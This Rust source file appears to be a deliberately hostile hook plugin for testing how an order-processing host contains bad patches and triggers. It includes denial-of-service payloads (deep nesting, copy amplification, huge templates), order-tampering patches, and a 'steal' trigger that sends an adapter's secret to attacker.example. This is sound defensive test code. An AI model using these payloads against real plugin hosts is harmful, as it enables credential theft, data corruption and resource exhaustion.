//! A hook plugin that misbehaves on request, for the host's tests of how it contains bad
//! patches and triggers.
//!
//! Configuration: `{"behaviour": "<name>"}`, one of:
//! - `bad-pointer`: `replace` at a path that is not a JSON Pointer;
//! - `read-only`: `replace /id`;
//! - `invalid-order`: makes the first cart line's quantity a string;
//! - `many-ops`: 5 000 `add` operations;
//! - `bad-trigger`: no patch, a trigger whose schema is not a JSON Schema;
//! - `fail`: answers `err("refused by config")`;
//! - `trap`: panics;
//! - `status:<status>`: moves the order to `<status>` by patching `/state/currentStatus`;
//! - `counter`: increments `/attributes/<plugin id>` (two of them, subscribed to
//!   `/attributes`, patch each other's changes forever: the cascade bound stops them).
//!
//! Attacks on the host, each reproducing a way the host was once crashed, exhausted or
//! made to leak:
//! - `deep:<levels>`: `add`s that nest `/attributes/d/d/…` `<levels>` deep, each value
//!   shallow (a stack overflow in any recursive reader);
//! - `amplify`: `add` 1 KiB, then `copy` the subtree into itself 16 times, doubling it each
//!   time (a 2 kB answer that would make a 65 MiB order);
//! - `triggers:<n>`: `<n>` triggers, each with a schema of its own (schema compilation);
//! - `huge-invoke`: a trigger whose invoke template repeats `{order_id}` 50 000 times
//!   (500 kB of template that would expand to far more);
//! - `steal:<adapter>`: a trigger naming adapter `<adapter>`, whose invoke URL would carry
//!   that adapter's `secret` configuration to the hook's own host;
//! - `add-notification`: a patch adding a notification `CreateNotification` would refuse
//!   (scope inside an array, invalid schema, unresolvable template);
//! - `rebind:<hook>`: a patch adding a binding of `<hook>` to `/hooks`;
//! - `duplicate-payment`: `copy` of the first payment to the end of `/payments` (two
//!   payments with one id);
//! - `payment-owner`: `replace` of the first payment's `merchant` (a host-owned field).

use ordergate_guest::{Change, Context, Hook, Operation, Order, Outcome, Trigger};
use serde::Deserialize;
use serde_json::json;

/// The configuration: which misbehaviour to perform.
#[derive(Deserialize)]
pub struct Config {
    behaviour: String,
}

/// The plugin.
pub struct HostileHook;

impl Hook for HostileHook {
    type Config = Config;

    fn handle(
        config: &Config,
        ctx: Context,
        order: &Order,
        _change: Change,
    ) -> Result<Outcome, String> {
        let outcome = match config.behaviour.as_str() {
            "bad-pointer" => Outcome::patch(vec![Operation::replace("cart/total", &1)]),
            "read-only" => Outcome::patch(vec![Operation::replace("/id", &"o_stolen")]),
            "invalid-order" => {
                Outcome::patch(vec![Operation::replace("/cart/items/0/quantity", &"two")])
            }
            "many-ops" => Outcome::patch(
                (0..5_000)
                    .map(|i| Operation::add(format!("/attributes/k{i}"), &i))
                    .collect(),
            ),
            "bad-trigger" => Outcome::triggers(vec![
                Trigger::new("broken", "/state/currentStatus", json!({ "type": 12 }))
                    .with_invoke("https://example.com/hook"),
            ]),
            "amplify" => {
                let mut ops = vec![Operation::add(
                    "/attributes",
                    &json!({ "a": "x".repeat(1024) }),
                )];
                for i in 0..16 {
                    ops.push(Operation::copy_from(
                        "/attributes",
                        format!("/attributes/c{i}"),
                    ));
                }
                Outcome::patch(ops)
            }
            "huge-invoke" => Outcome::triggers(vec![
                Trigger::new("huge", "/state/currentStatus", json!({})).with_invoke(format!(
                    "https://example.com/{}",
                    "{order_id}".repeat(50_000)
                )),
            ]),
            "add-notification" => Outcome::patch(vec![Operation::add(
                "/notifications/-",
                &json!({
                    "id": "n_sneaky", "reference": "sneaky", "scope": "/payments/0/state",
                    "schema": { "type": 12 }, "invoke": "https://example.com/{nowhere}",
                }),
            )]),
            "duplicate-payment" => {
                Outcome::patch(vec![Operation::copy_from("/payments/0", "/payments/-")])
            }
            "payment-owner" => Outcome::patch(vec![Operation::replace(
                "/payments/0/merchant",
                &"someone-else",
            )]),
            "fail" => return Err("refused by config".into()),
            "trap" => panic!("hostile hook panicked"),
            "counter" => {
                let text = order.attributes();
                let attributes: serde_json::Map<String, serde_json::Value> = text
                    .as_deref()
                    .map(serde_json::from_str)
                    .transpose()
                    .map_err(|e| e.to_string())?
                    .unwrap_or_default();
                let count = attributes
                    .get(&ctx.plugin_id)
                    .and_then(|v| v.as_u64())
                    .unwrap_or(0);
                let path = format!("/attributes/{}", ctx.plugin_id);
                let op = if attributes.is_empty() && text.is_none() {
                    Operation::add("/attributes", &json!({ &ctx.plugin_id: 1 }))
                } else {
                    Operation::add(path, &(count + 1))
                };
                Outcome::patch(vec![op])
            }
            other => parameterised(other)?,
        };
        Ok(outcome)
    }
}

/// The behaviours that take a parameter after a colon.
fn parameterised(behaviour: &str) -> Result<Outcome, String> {
    let (name, parameter) = behaviour
        .split_once(':')
        .ok_or_else(|| format!("unknown behaviour {behaviour:?}"))?;
    let count = || parameter.parse::<usize>().map_err(|e| e.to_string());
    Ok(match name {
        "status" => Outcome::patch(vec![Operation::replace("/state/currentStatus", &parameter)]),
        "deep" => {
            let mut path = String::from("/attributes");
            let mut ops = vec![Operation::add(&path, &json!({}))];
            for _ in 0..count()? {
                path.push_str("/d");
                ops.push(Operation::add(&path, &json!({})));
            }
            Outcome::patch(ops)
        }
        "triggers" => Outcome::triggers(
            (0..count()?)
                .map(|i| {
                    Trigger::new(
                        format!("t{i}"),
                        "/state/currentStatus",
                        json!({ "minLength": i }),
                    )
                    .with_invoke("https://example.com/hook")
                })
                .collect(),
        ),
        "steal" => Outcome::triggers(vec![
            Trigger::new("steal", "/state/currentStatus", json!({}))
                .with_adapter_id(parameter)
                .with_invoke("https://attacker.example/?key={configuration.adapter.secret}"),
        ]),
        "rebind" => Outcome::patch(vec![Operation::add(
            "/hooks/-",
            &json!({ "id": parameter, "invoke": format!("plugin:{parameter}") }),
        )]),
        _ => return Err(format!("unknown behaviour {behaviour:?}")),
    })
}

ordergate_guest::export_hook!(HostileHook);
